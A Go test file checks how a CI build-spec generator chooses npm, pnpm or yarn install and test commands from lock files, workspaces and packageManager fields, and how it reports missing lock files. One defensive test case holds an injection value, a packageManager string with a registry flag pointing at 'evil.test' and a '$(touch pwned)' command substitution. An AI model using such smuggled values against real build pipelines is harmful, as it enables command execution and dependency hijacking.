package buildspecs_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"slipway/scripts/buildspec/faketools"
	"slipway/stacks/delivery/buildspecs"
)

const notInstalled = "ci --no-audit --no-fund of the packages failed: run it in . with npm, " +
	"and commit package-lock.json"

// managers answers package managers that npm fetches, and keeps where they run.
func managers(into string) faketools.Reply {
	return faketools.Reply{
		Tool:   "npm",
		Script: `printf '%s: %s\n' "${PWD##*/source}" "$*" >>` + into,
	}
}

// workspace is a repository with the service in services/api, and what is at its root.
func workspace(files map[string]string) map[string]string {
	all := map[string]string{
		"services/api/Dockerfile":   "FROM scratch\n",
		"services/api/package.json": `{"dependencies": {"shared": "*"}, "scripts": {"test": "x", "test:integration": "x"}}`,
	}
	for name, text := range files {
		all[name] = text
	}
	return all
}

func TestPackagesAreInstalledAsTheLockFileSaysThatIsForTheService(t *testing.T) { // R14
	t.Parallel()
	for name, c := range map[string]struct {
		files map[string]string
		calls []string
	}{
		"npm, in the folder": {
			map[string]string{"services/api/package-lock.json": "{}"},
			[]string{"/services/api: ci --no-audit --no-fund", "/services/api: test"},
		},
		"npm, shrunk": {
			map[string]string{"services/api/npm-shrinkwrap.json": "{}"},
			[]string{"/services/api: ci --no-audit --no-fund", "/services/api: test"},
		},
		"npm, workspaces": {
			map[string]string{"package-lock.json": `{"packages": {"": {}, "services/api": {}}}`},
			[]string{": ci --no-audit --no-fund", "/services/api: test"},
		},
		"npm, a folder above and not the root": {
			map[string]string{"services/package-lock.json": `{"packages": {"api": {}}}`, "yarn.lock": ""},
			[]string{"/services: ci --no-audit --no-fund", "/services/api: test"},
		},
		"pnpm, in the folder": {
			map[string]string{"services/api/pnpm-lock.yaml": "lockfileVersion: '9.0'\n"},
			[]string{
				"/services/api: exec --yes --package pnpm@9 -- pnpm install --frozen-lockfile",
				"/services/api: exec --yes --package pnpm@9 -- pnpm run test",
			},
		},
		"pnpm, an older lock": {
			map[string]string{
				"pnpm-lock.yaml": "lockfileVersion: 5.4\r\nimporters:\r\n  services/api:\r\n    specifiers: {}\r\n",
			},
			[]string{
				": exec --yes --package pnpm@7 -- pnpm install --frozen-lockfile",
				"/services/api: exec --yes --package pnpm@7 -- pnpm run test",
			},
		},
		"pnpm, the version that the repository names": {
			map[string]string{
				"pnpm-lock.yaml": "lockfileVersion: '9.0'\nimporters:\n\n  'services/api':\n    dependencies: {}\n",
				"package.json":   `{"packageManager": "pnpm@10.4.1+sha512.c0ffee"}`,
			},
			[]string{
				": exec --yes --package pnpm@10.4.1 -- pnpm install --frozen-lockfile",
				"/services/api: exec --yes --package pnpm@10.4.1 -- pnpm run test",
			},
		},
		"yarn, the first": {
			map[string]string{"yarn.lock": "# yarn lockfile v1\n", "package.json": `{"workspaces": ["./services/*/"]}`},
			[]string{
				": exec --yes --package yarn@1 -- yarn install --frozen-lockfile",
				"/services/api: exec --yes --package yarn@1 -- yarn run test",
			},
		},
		"yarn, a later one": {
			map[string]string{
				"yarn.lock":    "__metadata:\n  version: 8\n",
				"package.json": `{"workspaces": {"packages": ["services/api"]}, "packageManager": "yarn@4.5.0"}`,
			},
			[]string{
				": exec --yes --package @yarnpkg/cli-dist@4.5.0 -- yarn install --immutable",
				"/services/api: exec --yes --package @yarnpkg/cli-dist@4.5.0 -- yarn run test",
			},
		},
		"yarn, in a folder of several that braces name": {
			map[string]string{"yarn.lock": "", "package.json": `{"workspaces": ["{apps,services}/*"]}`},
			[]string{
				": exec --yes --package yarn@1 -- yarn install --frozen-lockfile",
				"/services/api: exec --yes --package yarn@1 -- yarn run test",
			},
		},
		"yarn, the one that the repository holds": {
			map[string]string{
				"services/api/yarn.lock":    "__metadata:\n",
				"services/api/.yarnrc.yml":  "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-3.6.1.cjs\n",
				"services/api/package.json": scripts,
			},
			[]string{
				"/services/api: exec --yes --package @yarnpkg/cli-dist@3.6.1 -- yarn install --immutable",
				"/services/api: exec --yes --package @yarnpkg/cli-dist@3.6.1 -- yarn run test",
			},
		},
		"a package manager that is no name": {
			map[string]string{
				"services/api/yarn.lock": "",
				"services/api/package.json": `{"packageManager": "yarn@1 --registry=https://evil.test $(touch pwned)",
					"scripts": {"test": "x", "test:integration": "x"}}`,
			},
			[]string{
				"/services/api: exec --yes --package yarn@1 -- yarn install --frozen-lockfile",
				"/services/api: exec --yes --package yarn@1 -- yarn run test",
			},
		},
		"nothing, if nothing is declared": {
			map[string]string{"services/api/package.json": scripts, "package-lock.json": "{}"}, []string{"/services/api: test"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			seen := t.TempDir() + "/seen"
			o := build().set("SERVICE_PATH", "services/api/").repo(workspace(c.files)).with(managers(seen)).
				run(t, buildspecs.Build())
			require.True(t, o.Succeeded(), o.log)
			want := ""
			for _, call := range c.calls {
				want += call + "\n"
			}
			assert.Equal(t, want, readFile(t, seen))
			assert.NoFileExists(t, o.dir+"/services/api/pwned")
		})
	}
}

func TestTheLockFileOfAFolderThatBeginsWithADot(t *testing.T) {
	t.Parallel()
	seen := t.TempDir() + "/seen"
	o := build().set("SERVICE_PATH", ".services/api/").repo(map[string]string{
		".services/api/Dockerfile":        "FROM scratch\n",
		".services/api/package.json":      scripts,
		".services/api/package-lock.json": "{}",
	}).with(managers(seen)).run(t, buildspecs.Build())
	require.True(t, o.Succeeded(), o.log)
	assert.Equal(t, "/.services/api: ci --no-audit --no-fund\n/.services/api: test\n", readFile(t, seen))
}

func TestPackagesThatNoLockFileIsFor(t *testing.T) { // R17
	t.Parallel()
	const none = "services/api/package.json declares packages, and no lock file is for them: " +
		"commit the lock file, or make " +
		"services/api one of the workspaces of the lock file above it"
	for name, c := range map[string]struct {
		files map[string]string
		line  string
	}{
		"there is none": {nil, none},
		"npm's is for others": {
			map[string]string{"package-lock.json": `{"packages": {"": {}, "services/apiary": {}}}`}, none,
		},
		"pnpm's is for others": {
			map[string]string{"pnpm-lock.yaml": "importers:\n  services/web: {}\npackages:\n  services/api:\n"}, none,
		},
		"npm's is empty": {map[string]string{"package-lock.json": ""}, none},
		"braces name others": {
			map[string]string{"yarn.lock": "", "package.json": `{"workspaces": ["{apps,packages}/*"]}`}, none,
		},
		"yarn's is for others": {
			map[string]string{"yarn.lock": "", "package.json": `{"workspaces": ["packages/*"]}`}, none,
		},
		"two are": {
			map[string]string{"services/api/yarn.lock": "", "services/api/package-lock.json": "{}"},
			"there are package-lock.json yarn.lock in services/api: keep that of the package manager you use",
		},
		"bun's is": {map[string]string{"services/api/bun.lock": ""},
			"services/api/bun.lock is bun's, which is not installed here: " +
				"say in slipway.yml by which image and commands the service is tested"},
		"nobody knows which yarn's": {map[string]string{"services/api/yarn.lock": "__metadata:\n"},
			"services/api/yarn.lock does not say which yarn it is of: name it by packageManager in package.json beside it"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			o := build().set("SERVICE_PATH", "services/api/").repo(workspace(c.files)).run(t, buildspecs.Build())
			o.failedWith(t, "build", c.line+forGood)
			assert.Empty(t, o.called("npm"))
			assert.Empty(t, o.called("docker buildx"))
		})
	}
}

// Yarn from 2 on reads no settings of npm.
func TestTheTokenReachesALaterYarnToo(t *testing.T) { // R19
	t.Parallel()
	seen := t.TempDir() + "/seen"
	o := codeArtifact().repo(map[string]string{
		"Dockerfile": "FROM scratch\n", "yarn.lock": "__metadata:\n",
		"package.json": `{"packageManager": "yarn@4.5.0", "scripts": {"test": "x", "test:integration": "x"}}`,
	}).with(faketools.Reply{
		Tool:   "npm",
		Args:   "exec --yes --package @yarnpkg/cli-dist@4.5.0 -- yarn",
		Script: `printf '%s\n' "$YARN_NPM_REGISTRY_SERVER" "$YARN_NPM_AUTH_TOKEN" >` + seen,
	}).run(t, buildspecs.Build())
	require.True(t, o.Succeeded(), o.log)
	assert.Equal(t, "https://shop-000000000000.d.codeartifact.us-east-1.amazonaws.com/npm/npm/\n"+faketools.NPMToken+"\n",
		readFile(t, seen))
}
